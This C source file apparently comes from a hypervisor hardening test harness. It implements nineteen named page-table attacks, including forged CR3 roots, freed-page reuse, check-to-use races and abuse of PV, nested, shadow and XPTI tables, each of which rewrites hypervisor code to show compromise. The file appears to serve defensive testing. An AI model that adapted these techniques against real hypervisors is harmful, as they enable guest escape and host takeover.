/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Page tables: the hypervisor's own, those of PV guests, nested ones, and which of them is in use. Where the hypervisor
 * makes an entry itself, what it decides by has been changed. The proof is always that its code has changed.
 */
#define _GNU_SOURCE
#include "attacker.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define SUPERPAGE (1UL << 21)
#define HYPERCALL_MMU_UPDATE 1
#define DOMID_SELF 0x7ff0
#define VMCB_NESTED_ROOT 0xb0
#define VMCB_CR3 0x550
#define NESTED_ADDRESS (ATTACK_GUEST_FRAME << 12)

/* The code that the proofs change: whoever calls it through attack_ops gets there. */
static word victim(void) { return code("attack_ops_second"); }

/* Writes a jump to where a writable mapping of the victim's page has it, and lets the victim run. */
static void use_mapping(word page)
{
    write_jump(page + (victim() & (PAGE - 1)), won());
    cause(CAUSE_OPS, 0);
}

/* ---- the hypervisor's own tables ---- */

/* The linear map shows entries of all levels as one array: that of an entry's own address is one level up. */
static void entry_linear(void)
{
    word at = victim();
    int shift;

    find_entry(at, &shift);
    for ( at = fact(FACT_LINEAR, at); shift > 12; shift -= 9 )
        at = fact(FACT_LINEAR, at);
    poke(at, peek(at) | WRITABLE);
    cause(CAUSE_RELOAD_CR3, 0);
    use_mapping(victim() & ~(PAGE - 1));
}

static void table_mapping(void)
{
    word entry = entry_of(victim());
    word page = cause(CAUSE_MAP, physical(entry) >> 12), at = page + (entry & (PAGE - 1));

    poke(at, peek(at) | WRITABLE);
    cause(CAUSE_RELOAD_CR3, 0);
    use_mapping(victim() & ~(PAGE - 1));
}

static void superpage_mapping(void)
{
    word base = physical(victim()) & ~(SUPERPAGE - 1), page = cause(CAUSE_MAP_SUPER, base >> 12);

    if ( page )
        use_mapping(page + ((physical(victim()) - base) & ~(PAGE - 1)));
}

/* The superpage is mapped honestly, for memory of the heap; then its entry gets another frame. */
static void superpage_entry(void)
{
    word heap = heap_pages(9), base = physical(victim()) & ~(SUPERPAGE - 1);
    word page = cause(CAUSE_MAP_SUPER, physical(heap) >> 12), entry;
    int shift;

    if ( !page )
        fail("no superpage for memory of the heap");
    entry = find_entry(page, &shift);
    poke(entry, base | (peek(entry) & ~FRAME_MASK));
    if ( shift == 12 ) /* it has been split: then only the page that is wanted */
        poke(entry, physical(victim()) | (peek(entry) & ~FRAME_MASK));
    cause(CAUSE_RELOAD_CR3, 0);
    use_mapping(shift == 12 ? page : page + ((physical(victim()) - base) & ~(PAGE - 1)));
}

/* A page is freed while a mapping of it remains; the allocator's next page table is that page. */
static void freed_page(void)
{
    word pages[64], alias, at, i, entry;

    for ( i = 0; i < 64; i++ )
        pages[i] = heap_pages(0);
    /* Not freed next to each other, so that they do not become a larger block. */
    alias = cause(CAUSE_MAP, physical(pages[31]) >> 12);
    for ( i = 0; i < PAGE / 8; i++ )
        poke(alias + 8 * i, 0);
    cause(CAUSE_FREE, pages[31]);
    at = cause(CAUSE_MAP_MANY, physical(pages[0]) >> 12);
    for ( i = 0; i < PAGE / 8; i++ )
    {
        entry = peek(alias + 8 * i);
        if ( (entry & FRAME_MASK) == physical(pages[0]) && (entry & PRESENT) )
            break;
    }
    if ( i == PAGE / 8 )
        fail("the page that was freed has not become a page table");
    poke(alias + 8 * i, (entry & ~FRAME_MASK) | (physical(victim()) & FRAME_MASK));
    cause(CAUSE_RELOAD_CR3, 0);
    /* Of the mappings, only those with this index in their table can be that entry's. */
    for ( at += ((i - (at >> 12)) & 511) * PAGE; ; at += 512 * PAGE )
        if ( physical(at) == (physical(victim()) & ~(PAGE - 1)) )
        {
            use_mapping(at);
            return;
        }
}

/* The hypervisor maps a frame that it has checked; the other CPU changes the frame's number in between. */
static void map_race(void)
{
    word good = physical(heap_pages(0)) >> 12, bad = physical(victim()) >> 12, page;
    word expected = peek(victim() & ~(PAGE - 1));
    int i;

    poke(directmap_of(good << 12), ~expected);
    hammer(0, data("attack_frame"), good, bad);
    hold_other_cpu(CAUSE_HAMMER);
    for ( i = 0; i < 3000; i++ )
    {
        page = cause(CAUSE_MAP_CHECKED, 0);
        if ( page && peek(page) == expected )
        {
            release_other_cpu();
            use_mapping(page);
            return;
        }
    }
    release_other_cpu();
}

/* ---- which tables are in use ---- */

/* A copy of all tables that lead to a page, and of the page, in the heap. Returns the root; the page's copy in *page. */
static word forged_root(word address, word *page)
{
    word root = heap_pages(0), table = root, old = fact(FACT_CR3, 0) & FRAME_MASK;
    int shift;

    copy_words(root, directmap_of(old), PAGE / 8);
    for ( shift = 39; shift > 12; shift -= 9 )
    {
        word at = table + 8 * (address >> shift & 511), entry = peek(at), i;

        table = heap_pages(0);
        if ( entry & LARGE )
            for ( i = 0; i < PAGE / 8; i++ )
                poke(table + 8 * i, ((entry & FRAME_MASK) + (i << (shift - 9))) | (entry & ~FRAME_MASK & ~(shift == 21 ? LARGE : 0)));
        else
            copy_words(table, directmap_of(entry & FRAME_MASK), PAGE / 8);
        poke(at, physical(table) | ACCESSED_DIRTY | WRITABLE | PRESENT);
    }
    *page = heap_pages(0);
    copy_words(*page, address & ~(PAGE - 1), PAGE / 8);
    table += 8 * (address >> 12 & 511);
    poke(table, physical(*page) | (peek(table) & ~FRAME_MASK));
    return physical(root);
}

word root_with_changed(const char *function)
{
    word page, root = forged_root(code(function), &page);

    write_jump(page + (code(function) & (PAGE - 1)), won());
    return root;
}

/* What the hypervisor knows of a CPU stands at the end of its stack. */
word forged_stack(word original, const char *function)
{
    word stack = heap_pages(fact(FACT_STACK_ORDER, 0)), end = stack_size() - 256;

    copy_words(stack + end, original + end, 256 / 8);
    poke(stack + (fact(FACT_ENTRY_CR3, 0) & (stack_size() - 1)), root_with_changed(function));
    return stack;
}

/* What the guest does next is to leave its kernel, by the hypercall do_iret(). */
static void cr3_entry(void) { poke(fact(FACT_ENTRY_CR3, 0), root_with_changed("do_iret")); }

static void cr3_guest_table(void)
{
    poke(fact(FACT_GUEST_TABLE, 0), root_with_changed("attack_ops_second") >> 12);
    pause_ms(10);
    cause(CAUSE_OPS, 0);
}

static void cr3_call(void) { call(code("switch_cr3_cr4"), root_with_changed("do_iret"), peek(fact(FACT_CR4_CACHE, 0))); }

/* ---- a PV guest's tables ---- */

static char *guest_page(void)
{
    char *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

    if ( page == MAP_FAILED )
        fail("mmap: %s", strerror(errno));
    *page = 1;
    return page;
}

/* Through the guest's own mapping, from the guest. */
static void use_guest_mapping(char *page)
{
    word words[2];

    jump_words(won(), words);
    memcpy(page + (victim() & (PAGE - 1)), words, 12);
    cause(CAUSE_OPS, 0);
}

static void guest_entry(void)
{
    char *page = guest_page();

    poke(entry_of((word)page), (physical(victim()) & FRAME_MASK) | ACCESSED_DIRTY | USER | WRITABLE | PRESENT);
    cause(CAUSE_RELOAD_CR3, 0);
    use_guest_mapping(page);
}

/* A guest's page becomes one of ring 0, which SMEP does not keep from being executed there. */
static void guest_executable(void)
{
    char *page = guest_page();
    word words[2];

    jump_words(won(), words);
    memcpy(page, words, sizeof(words));
    poke(entry_of((word)page), physical((word)page) | ACCESSED_DIRTY | WRITABLE | PRESENT);
    cause(CAUSE_RELOAD_CR3, 0);
    poke(data("attack_call"), (word)page);
    cause(CAUSE_CALL, 0);
}

/* What the hypervisor knows of the code's frame becomes what it knows of a guest's: its own checks pass. */
static void guest_mapping(void)
{
    char *page = guest_page();
    word own = physical((word)page), wanted = physical(victim()) & FRAME_MASK;
    struct { word at, value; } update = { (entry_of((word)page) - directmap_of(0)), wanted | ACCESSED_DIRTY | USER | WRITABLE | PRESENT };

    copy_words(fact(FACT_PAGE_INFO, wanted >> 12), fact(FACT_PAGE_INFO, own >> 12), fact(FACT_PAGE_INFO_SIZE, 0) / 8);
    if ( hypercall(HYPERCALL_MMU_UPDATE, (word)&update, 1, 0, DOMID_SELF) )
        return; /* refused by the hypervisor itself */
    use_guest_mapping(page);
}

/* ---- nested tables ---- */

/* Device memory, as far as the guest's kernel knows. */
static char *far_page(void)
{
    int memory = open("/dev/mem", O_RDWR | O_SYNC | O_CLOEXEC);
    char *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, memory, NESTED_ADDRESS);

    if ( memory < 0 || page == MAP_FAILED )
        fail("/dev/mem: %s", strerror(errno));
    return page;
}

/* Makes an entry of a root lead to the victim; mostly the second one. */
static void add_at(word root, int slot)
{
    word flags = ACCESSED_DIRTY | USER | WRITABLE | PRESENT, l3 = heap_pages(0), l2 = heap_pages(0), l1 = heap_pages(0);

    poke(l1, (physical(victim()) & FRAME_MASK) | flags);
    poke(l2, physical(l1) | flags);
    poke(l3, physical(l2) | flags);
    poke(root + 8 * slot, physical(l3) | flags);
}

static void add_nested(word root) { add_at(root, 1); }

static void nested_entry(void)
{
    char *page = far_page();

    add_nested(directmap_of(fact(FACT_NESTED_ROOT, 0)));
    use_guest_mapping(page);
}

static void nested_root(void)
{
    word root = heap_pages(0);
    char *page = far_page();

    copy_words(root, directmap_of(fact(FACT_NESTED_ROOT, 0)), PAGE / 8);
    add_nested(root);
    poke(fact(FACT_VMCB, 0) + VMCB_NESTED_ROOT, physical(root));
    use_guest_mapping(page);
}

static void nested_mapping(void)
{
    char *page = far_page();

    cause(CAUSE_NESTED_MAP, physical(victim()) >> 12);
    use_guest_mapping(page);
}

/* ---- shadow tables ---- */

static void shadow_entry(void)
{
    char *page = guest_page();
    word root = fact(FACT_SHADOW_ROOT, 0);

    poke(entry_at(root, (word)page, 12), (physical(victim()) & FRAME_MASK) | ACCESSED_DIRTY | USER | WRITABLE | PRESENT);
    cause(CAUSE_RELOAD_CR3, 0);
    use_guest_mapping(page);
}

/* The guest's own tables know nothing of the address. */
static void shadow_root(void)
{
    word root = heap_pages(0);

    copy_words(root, directmap_of(fact(FACT_SHADOW_ROOT, 0)), PAGE / 8);
    add_nested(root);
    poke(fact(FACT_VMCB, 0) + VMCB_CR3, physical(root));
    use_guest_mapping((char *)NESTED_ADDRESS);
}

/* ---- the tables that a PV guest runs on with XPTI ---- */

/* A slot that is Xen's, but not there: no guest's table is copied to it. */
#define XPTI_SLOT 257

static void xpti_root(void)
{
    on_cpu(0);
    add_at(peek(per_cpu("root_pgt", 0)), XPTI_SLOT);
    use_guest_mapping((char *)(0xffffUL << 48 | (word)XPTI_SLOT << 39));
}

/* Only while a CPU runs its guest, this is what it goes back to. */
static void xpti_entry(void)
{
    word at = peek(data("stack_base") + 8) + (fact(FACT_ENTRY_CR3, 0) & (stack_size() - 1)), root = root_with_changed("do_iret");
    int i;

    on_cpu(0);
    stay_in_guest_on_other_cpu();
    pause_ms(10);
    for ( i = 0; i < 3000; i++ )
    {
        if ( peek(at) )
            poke(at, root);
        /* QEMU's thread of the other CPU may have to wait for its turn. */
        if ( i % 10 == 9 )
            pause_ms(10);
    }
}

const struct attack paging_attacks[] = {
    { "entry-linear", "a page of code is made writable through the linear map of the page tables", entry_linear },
    { "entry-fresh-mapping", "a page of code is made writable through a fresh mapping of its page table", table_mapping },
    { "superpage-mapping", "the hypervisor maps a superpage that has code in it", superpage_mapping },
    { "superpage-entry", "the entry of a superpage of the heap gets a superpage with code in it", superpage_entry },
    { "freed-page", "a page that is freed while a mapping of it remains becomes a page table", freed_page },
    { "map-race", "between check and use of a frame's number the other CPU changes it to one of code", map_race },
    { "cr3-entry", "the saved CR3 that an entry from the guest loads becomes that of forged tables", cr3_entry },
    { "cr3-guest-table", "the number of the guest's root page table becomes that of a forged one", cr3_guest_table },
    { "cr3-call", "the function that loads CR3 is called with forged tables", cr3_call },
    { "guest-entry", "an entry of a PV guest's page table maps code for the guest to write", guest_entry },
    { "guest-executable", "an entry of a PV guest's page table makes its page one of ring 0, which is called", guest_executable },
    { "guest-mapping", "a PV guest maps code, after the hypervisor's knowledge of that frame was changed", guest_mapping },
    { "nested-entry", "the root of a PVH guest's nested page table leads to code for the guest to write", nested_entry, "pvh" },
    { "nested-root", "what a PVH guest is run by names forged nested page tables", nested_root, "pvh" },
    { "nested-mapping", "the hypervisor maps code into a PVH guest, by the number of a frame that was changed", nested_mapping, "pvh" },
    { "shadow-entry", "an entry of a shadow page table maps code for the guest to write", shadow_entry, "shadow" },
    { "shadow-root", "what an HVM guest is run by names forged shadow page tables", shadow_root, "shadow" },
    { "xpti-root", "the table that a PV guest runs on with XPTI leads to code for the guest to write", xpti_root, "xpti" },
    { "xpti-entry", "the saved CR3 that an entry from the guest loads with XPTI becomes that of forged tables", xpti_entry, "xpti" },
    { 0 }
};
